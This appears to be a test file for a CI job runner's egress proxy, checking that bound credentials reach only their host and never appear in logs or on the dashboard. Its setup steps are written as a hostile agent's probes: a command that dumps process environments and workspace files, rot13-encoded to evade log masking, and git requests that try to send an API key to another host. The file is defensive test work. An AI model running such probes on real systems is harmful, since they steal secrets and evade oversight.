/**
 * Credentials the egress proxy adds, on the real stack: a step that only ever held the
 * placeholder gets the value to its bound host, an HTTPS server on the host's loopback
 * with a CA of its own (an operator exception and the operator's CA bundle). Each probe
 * is a command a hostile agent would run; each refusal has its control in the same job.
 */
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import type net from 'node:net';
import path from 'node:path';
import type { JobView } from '../../common/job';
import { TEST_DATA_DIR } from '../../testing/env';
import { GIT_HOST, type GitFixture, startGitFixture } from '../../testing/git-fixture';
import { waitFor } from '../../testing/helpers';
import { fixtureCert } from '../../testing/tls';
import { gitException, leftovers, startTestStack, TEST_TOKENS, type TestStack } from '../../testing/stack';
import { launchChromium } from '../../testing/browser';
import { projectRoot } from '../../common/paths';

const VALUE = 'sk-live-4f7c2a9e1b-the-model-key';
const PUSH = 'ghp_push-token-7d1e0c5b3a';
const CLONE_TOKEN = 'ghp_clone-token-91b2e4f6a8';
const dir = path.join(TEST_DATA_DIR, `credentials-${process.pid}`);
let stack: TestStack;
let repo: GitFixture;
/** The job that used its credentials, for the dashboard's view of it. */
let usedJob = '';
/** The model provider: HTTPS, its own CA, every request's path and Authorization header recorded. */
let api: { server: https.Server; port: number; seen: { path: string; auth: string }[] };
/** A git forge over HTTPS: asks for Basic authorization (as forges do), and records what it got. */
let forge: { server: https.Server; port: number; seen: string[] };
/** The fixture's repositories over HTTPS behind Basic authorization with CLONE_TOKEN (a private forge). */
let gated: { server: https.Server; port: number; seen: string[] };
/** Another allowed host, plain http: the proxy sees all of a request to it. */
let other: { server: http.Server; port: number; seen: string[] };

beforeAll(async () => {
  fs.mkdirSync(path.join(dir, 'secrets'), { recursive: true });
  fs.writeFileSync(path.join(dir, 'secrets', 'model-key'), `${VALUE}\n`);
  fs.writeFileSync(path.join(dir, 'secrets', 'push-token'), `${PUSH}\n`);
  fs.writeFileSync(path.join(dir, 'secrets', 'clone-token'), `${CLONE_TOKEN}\n`);
  const tlsFiles = fixtureCert(dir, GIT_HOST);
  const apiSeen: { path: string; auth: string }[] = [];
  const apiServer = https.createServer({ key: tlsFiles.key, cert: tlsFiles.cert }, (req, res) => {
    apiSeen.push({ path: req.url ?? '', auth: req.headers.authorization ?? '-' });
    res.writeHead(404).end();
  });
  const forgeSeen: string[] = [];
  const forgeServer = https.createServer({ key: tlsFiles.key, cert: tlsFiles.cert }, (req, res) => {
    if (!req.headers.authorization) return void res.writeHead(401, { 'www-authenticate': 'Basic realm="forge"' }).end();
    forgeSeen.push(req.headers.authorization);
    res.writeHead(404).end();
  });
  const gatedSeen: string[] = [];
  const gatedServer = https.createServer({ key: tlsFiles.key, cert: tlsFiles.cert }, (req, res) => {
    gatedSeen.push(req.headers.authorization ?? '-');
    if (req.headers.authorization !== `Basic ${Buffer.from(`x-access-token:${CLONE_TOKEN}`).toString('base64')}`) {
      return void res.writeHead(401, { 'www-authenticate': 'Basic realm="gated"' }).end();
    }
    const upstream = http.request(
      { host: GIT_HOST, port: Number(process.env.DRAFTSMAN_TEST_GIT_PORT), method: req.method, path: req.url, headers: req.headers },
      (answer) => {
        res.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(res);
      },
    );
    upstream.on('error', () => res.destroy());
    req.pipe(upstream);
  });
  const otherSeen: string[] = [];
  const otherServer = http.createServer((req, res) => {
    otherSeen.push(`${req.url} ${req.headers.authorization ?? '-'}`);
    res.writeHead(404).end();
  });
  await Promise.all([apiServer, otherServer, forgeServer, gatedServer].map((x) => new Promise<void>((r) => x.listen(0, GIT_HOST, r))));
  gated = { server: gatedServer, port: (gatedServer.address() as net.AddressInfo).port, seen: gatedSeen };
  forge = { server: forgeServer, port: (forgeServer.address() as net.AddressInfo).port, seen: forgeSeen };
  api = { server: apiServer, port: (apiServer.address() as net.AddressInfo).port, seen: apiSeen };
  other = { server: otherServer, port: (otherServer.address() as net.AddressInfo).port, seen: otherSeen };
  [stack, repo] = await Promise.all([
    startTestStack({
      DRAFTSMAN_SECRETS_DIR: path.join(dir, 'secrets'),
      DRAFTSMAN_EGRESS_EXCEPTIONS: `${gitException()},${GIT_HOST}:${api.port},${GIT_HOST}:${other.port},${GIT_HOST}:${forge.port},${GIT_HOST}:${gated.port}`,
      DRAFTSMAN_EGRESS_CA_BUNDLE: tlsFiles.certPath,
    }),
    startGitFixture(1),
  ]);
});
afterAll(async () => {
  const servers = [api?.server, other?.server, forge?.server, gated?.server].filter((x) => x !== undefined);
  for (const x of servers) x.closeAllConnections();
  await Promise.allSettled([stack?.stop(), repo?.stop(), ...servers.map((x) => new Promise((r) => x.close(r)))]);
  fs.rmSync(dir, { recursive: true, force: true });
});

const logOf = async (id: string, step: string) =>
  (await stack.store.logs.read(id, { afterId: 0, limit: 1000 })).flatMap((c) => (c.step === step ? c.lines : []).map((l) => l.x));

/**
 * What a step can read of itself: its environment, every process's environment and
 * command line, and the files it can write to, rot13'd so that the log's masking (which
 * knows the value's forms, not this one) leaves it for the test to read.
 */
const DUMP =
  "{ env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; grep -rsh . /tmp /workspace /home; } 2>/dev/null | tr '\\000' '\\n' | tr 'A-Za-z' 'N-ZA-Mn-za-m'";
const rot13 = (s: string) => s.replace(/[A-Za-z]/g, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c < 'a' ? 65 : 97)));
/** git sends the header with every request; it fails on the 404 the servers answer, which is not what is shown here. */
const gitWith = (header: string, url: string) => `git -c http.extraHeader="${header}" ls-remote ${url} >/dev/null 2>&1; echo "exit $?"`;

test('the bound host receives the value from a step that only ever held the placeholder; sent anywhere else it is refused and recorded', async () => {
  const bound = `${GIT_HOST}:${api.port}`;
  const elsewhere = `http://${GIT_HOST}:${other.port}`;
  const spec = {
    repo: repo.url,
    commit: repo.head,
    egress: { allow: [gitException(), bound, `${GIT_HOST}:${other.port}`, `${GIT_HOST}:${forge.port}`] },
    credentials: [
      { secret: 'model-key', hosts: [bound], header: 'Authorization', format: 'Bearer {value}', env: 'MODEL_API_KEY' },
      // git over https: its credential helper hands git the placeholder, the proxy swaps it inside Basic authorization.
      { secret: 'push-token', hosts: [`${GIT_HOST}:${forge.port}`], header: 'Authorization', env: 'GIT_TOKEN', git: { username: 'bot' } },
    ],
    setup: [
      DUMP,
      gitWith('Authorization: Bearer $MODEL_API_KEY', `https://${bound}/trusted.git`),
      // A hostile agent's ways out: another allowed host, in a header and in a URL.
      gitWith('Authorization: Bearer $MODEL_API_KEY', `${elsewhere}/in-header.git`),
      gitWith('X-Nothing: 1', `${elsewhere}/in-url.git?k=$MODEL_API_KEY`),
      // The controls: the same requests without the placeholder reach that host.
      gitWith('Authorization: Bearer harmless', `${elsewhere}/control-header.git`),
      gitWith('X-Nothing: 1', `${elsewhere}/control-url.git?k=harmless`),
      // A client that does not trust the job's CA: a failed handshake, not a tunnel around the proxy.
      `GIT_SSL_CAINFO=/etc/ssl/certs/ca-certificates.crt git -c http.extraHeader="Authorization: Bearer $MODEL_API_KEY" ls-remote https://${bound}/untrusting.git 2>&1 | grep -ci 'certificate'`,
      `git ls-remote https://${GIT_HOST}:${forge.port}/org/repo.git >/dev/null 2>&1; echo "exit $?"`,
    ],
  };
  // The positive control of the dump: the same value given as a plain secret is seen by it.
  const [{ id }, { id: control }] = await Promise.all([
    stack.jobs.start(spec),
    stack.jobs.start({ repo: repo.url, commit: repo.head, secrets: { MODEL_API_KEY: 'model-key' }, setup: [DUMP] }),
  ]);
  usedJob = id;
  const [job, controlJob] = await Promise.all([stack.waitForEnd(id), stack.waitForEnd(control)]);
  expect(job.status).toBe('succeeded');
  expect(controlJob.status).toBe('succeeded');

  // The step held the placeholder and never the value; the same probe sees a secret given the old way.
  const seenByStep = rot13((await logOf(id, 'setup-0')).join('\n'));
  expect(seenByStep).toMatch(/MODEL_API_KEY=draftsman-credential-[0-9a-f]{32}/);
  expect(seenByStep).toContain('BEGIN CERTIFICATE');
  expect(seenByStep).not.toContain(VALUE);
  expect(seenByStep).not.toContain(PUSH);
  expect(rot13((await logOf(control, 'setup-0')).join('\n'))).toContain(`MODEL_API_KEY=${VALUE}`);
  const placeholder = /MODEL_API_KEY=(draftsman-credential-[0-9a-f]{32})/.exec(seenByStep)![1]!;

  // The server got the value, in the format asked for; the untrusting client got nowhere.
  expect(api.seen.filter((s) => s.path.startsWith('/trusted.git')).map((s) => s.auth)).toContain(`Bearer ${VALUE}`);
  expect(api.seen.some((s) => s.path.startsWith('/untrusting.git'))).toBe(false);
  expect(Number((await logOf(id, 'setup-6'))[0])).toBeGreaterThanOrEqual(1);

  // git got the placeholder from its helper; the forge got the token, with git's user name.
  expect(forge.seen).toContain(`Basic ${Buffer.from(`bot:${PUSH}`).toString('base64')}`);

  // Elsewhere: refused before anything was sent, the controls through.
  expect(other.seen.some((s) => s.includes(placeholder) || s.includes(VALUE))).toBe(false);
  expect(other.seen.some((s) => s.startsWith('/in-'))).toBe(false);
  expect(other.seen.some((s) => s.startsWith('/control-header.git') && s.endsWith('Bearer harmless'))).toBe(true);
  expect(other.seen.some((s) => s.startsWith('/control-url.git'))).toBe(true);
  const events = await stack.store.events(id);
  const misuse = events.filter((e) => e.type === 'egress_denied' && e.data.reason === 'credential_misuse').map((e) => e.data);
  expect(misuse).toEqual([
    expect.objectContaining({ step: 'setup-2', host: GIT_HOST, port: other.port, detail: expect.stringContaining('in the authorization header') }),
    expect.objectContaining({ step: 'setup-3', host: GIT_HOST, port: other.port, detail: expect.stringContaining('in the URL') }),
  ]);

  // Audited: which credential, which host, how many requests; the value nowhere.
  expect(events.filter((e) => e.type === 'credential_used').map((e) => e.data)).toEqual([
    { env: 'MODEL_API_KEY', secret: 'model-key', host: bound },
    { env: 'GIT_TOKEN', secret: 'push-token', host: `${GIT_HOST}:${forge.port}` },
  ]);
  const view = (await stack.api<JobView>('GET', `/v1/jobs/${id}`)).body;
  expect(view.credentialUse).toEqual([
    expect.objectContaining({ env: 'GIT_TOKEN', secret: 'push-token', host: `${GIT_HOST}:${forge.port}` }),
    expect.objectContaining({ env: 'MODEL_API_KEY', secret: 'model-key', host: bound }),
  ]);
  expect(view.credentialUse!.every((u) => u.requests >= 1)).toBe(true);
  const logs = await (await fetch(`${stack.apiUrl}/v1/jobs/${id}/logs`, { headers: stack.authHeader })).text();
  const history = JSON.stringify((await stack.client.workflow.getHandle(id).fetchHistory()).events);
  for (const sink of [logs, history, JSON.stringify(events), JSON.stringify(view)]) {
    expect(sink).not.toContain(VALUE);
    expect(sink).not.toContain(PUSH);
  }

  // The job's CA went with the job: its key file and its folder.
  const caKeys = path.join(stack.config.DRAFTSMAN_EGRESS_SOCKET_DIR!, '.ca');
  await waitFor(() => !fs.existsSync(caKeys) || fs.readdirSync(caKeys).length === 0, 'the job CA key to be removed', { timeoutMs: 10_000 });
  expect(await leftovers(stack.docker, id)).toEqual([]);
}, 180_000);

test('a credential bound to a host outside the egress list is refused at submission, naming the field', async () => {
  const res = await stack.api<{ field: string; detail: string }>('POST', '/v1/jobs', {
    repo: repo.url,
    commit: repo.head,
    egress: { allow: [gitException()] },
    setup: ['true'],
    credentials: [{ secret: 'model-key', hosts: ['api.example.com'], header: 'Authorization', env: 'MODEL_API_KEY' }],
  });
  expect([res.status, res.body.field]).toEqual([400, 'credentials.0.hosts.0']);
  expect(res.body.detail).toContain('not in the job');
});

test("the dashboard's job page says which credential the proxy added on which host, how many times, and shows no value", async () => {
  expect(usedJob).not.toBe('');
  const browser = await launchChromium();
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    await page.goto(`${stack.apiUrl}/login?next=${encodeURIComponent(`/ui/jobs/${usedJob}`)}`);
    await page.getByLabel('API token').fill(TEST_TOKENS.admin);
    await page.getByRole('button', { name: 'Sign in' }).click();
    const line = page.getByText(/Credential MODEL_API_KEY \(model-key\) added by the egress proxy on/);
    await line.waitFor();
    expect(await line.textContent()).toMatch(new RegExp(`on ${GIT_HOST}:${api.port}: \\d+ requests?$`));
    await page.getByText('credential_misuse').first().waitFor();
    expect(await page.content()).not.toContain(VALUE);
    fs.mkdirSync(path.join(projectRoot(), 'test-artifacts'), { recursive: true });
    await page.screenshot({ path: path.join(projectRoot(), 'test-artifacts', 'credentials-job.png'), fullPage: true });
  } finally {
    await browser.close();
  }
}, 60_000);

test('the clone token reaches git as a placeholder the proxy swaps on the way to the repository, and only there', async () => {
  const url = repo.url.replace(/^http:\/\/[^/]+/, `https://${GIT_HOST}:${gated.port}`);
  const { id } = await stack.jobs.start({ repo: url, commit: repo.head, gitTokenSecret: 'clone-token', setup: ['git log -1 --format=%H'] });
  const job = await stack.waitForEnd(id);
  expect(job.steps.map((s) => `${s.kind}-${s.index}:${s.status}`)).toEqual(['clone-0:succeeded', 'setup-0:succeeded']);
  expect(await logOf(id, 'setup-0')).toEqual([repo.head]);
  // git asked first without, then with the token: the forge got the value, never a placeholder.
  expect(gated.seen).toContain(`Basic ${Buffer.from(`x-access-token:${CLONE_TOKEN}`).toString('base64')}`);
  expect(gated.seen.some((a) => a.startsWith('Basic ') && Buffer.from(a.slice(6), 'base64').toString().includes('draftsman-credential-'))).toBe(false);
  const events = await stack.store.events(id);
  expect(events.filter((e) => e.type === 'credential_used').map((e) => e.data)).toEqual([
    { env: 'DRAFTSMAN_GIT_TOKEN', secret: 'clone-token', host: `${GIT_HOST}:${gated.port}` },
  ]);
  expect(JSON.stringify(events)).not.toContain(CLONE_TOKEN);
}, 120_000);
